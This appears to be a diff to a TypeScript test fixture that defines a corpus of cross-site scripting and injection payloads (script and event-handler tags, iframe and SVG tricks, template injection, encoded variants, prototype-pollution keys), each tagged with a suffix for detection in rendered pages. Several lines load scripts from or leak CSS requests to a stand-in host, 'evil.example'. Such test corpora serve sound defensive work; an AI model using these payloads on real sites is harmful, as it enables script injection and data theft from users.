@@ -3,11 +3,11 @@ const image = `<img hit src=x onerror=${run}>`;
 const elsewhere = 'evil.example';
 
 /**
- * Texts that run, load or make something where a page takes them for more than text. What they run sets `hit` on the
- * page's window, what they make has the attribute `hit`, and what they load is at `evil.example`.
+ * Texts that run scripts, load resources or create elements if a page treats them as more than text. Their scripts set
+ * `hit` on the page's window, their elements have the attribute `hit`, and their requests go to `evil.example`.
  */
 const texts: readonly string[] = [
-  // Scripts and event handlers, bare and out of an attribute.
+  // Scripts and event handlers, as elements and escaping from an attribute.
   `<script hit>${run}</script>`,
   `"><script hit src=//${elsewhere}/x.js></script>`,
   image,
@@ -19,7 +19,7 @@ const texts: readonly string[] = [
   `<video hit><source onerror=${run}></video>`,
   `<x-unknown hit tabindex=1 onfocus=${run} autofocus>x</x-unknown>`,
   `<ıMG hit src=x onerror=${run}><IMG HIT SRC=x OnErRoR=${run}>`,
-  // Other documents, and what changes this one.
+  // Other documents, and elements that change this one.
   `<iframe hit src="javascript:parent.hit=1"></iframe>`,
   `<iframe hit srcdoc="<script>parent.hit=1</script>"></iframe>`,
   `<object hit data="data:text/html,<script>parent.hit=1</script>"></object>`,
@@ -32,7 +32,7 @@ const texts: readonly string[] = [
   `<style hit>*{background:url(https://${elsewhere}/leak)}</style>`,
   `red;background-image:url(https://${elsewhere}/leak)`,
   `url(https://${elsewhere}/leak)`,
-  // SVG and MathML, and what a second parsing changes.
+  // SVG and MathML, and markup that changes when it is parsed again.
   `<svg hit onload=${run}>`,
   `<svg hit><animate onbegin=${run} attributeName=x dur=1s>`,
   `<svg hit><a xlink:href="javascript:${run}"><text y=20>go</text></a></svg>`,
@@ -55,7 +55,7 @@ const texts: readonly string[] = [
   `{${run}}{#if (${run})}x{/if}`,
   `{{constructor.constructor('${run}')()}}`,
   `\${${run}}\`\${${run}}\`<%= ${run} %>`,
-  // Written otherwise.
+  // Encoded in other ways.
   `&lt;img hit src=x onerror=${run}&gt;&#60;img hit src=x onerror=${run}&#62;`,
   `%3Cimg%20hit%20src%3Dx%20onerror%3D${run}%3E`,
   `\\u003cimg hit src=x onerror=${run}\\u003e\\x3cimg hit src=x onerror=${run}\\x3e`,
@@ -63,24 +63,24 @@ const texts: readonly string[] = [
   `<im\0g hit src=x onerror=${run}><img\u2028hit\u2029src=x onerror=${run}>`,
   `\u202e${image}\u202c \u2066gpj.exe\u2069 ${'Z\u0351\u0344\u0320'.repeat(5)}`,
   `\ufeff\u200b${image}\ud800`,
-  // Names that objects have.
+  // Property names of objects.
   '__proto__',
   'constructor.prototype.hit',
 ];
 
-/** What each text ends with, so that it is known where it shows; nobody's words hold it by chance. */
+/** The unique suffix of each text, by which it is found on a screen. No other text contains it. */
 const mark = (at: number): string => `~${String(at).padStart(2, '0')}~`;
 const marks = /~(\d\d)~/g;
 
-/** Would set letters apart: shown as it is anywhere, it is seen, whichever text of the corpus stands there. */
+/** Direction marks, which must be visible as symbols with any text of the corpus. */
 const turning = '\u2066\u2069';
 
-/** The corpus: every text with its mark. */
+/** The corpus: every text with its suffix. */
 export const payloads: readonly string[] = texts.map((text, at) => text + turning + mark(at));
 
-/** The text at a place, counted round and round. */
+/** Returns the text at an index, modulo the length of the corpus. */
 export const payload = (at: number): string => payloads[at % payloads.length] ?? '';
 
-/** Which texts of the corpus show in what a page says, by their places. */
+/** Returns the indexes of the corpus texts in the text of a page. */
 export const shownIn = (words: string): Set<number> =>
   new Set([...words.matchAll(marks)].map(([, place]) => Number(place)));
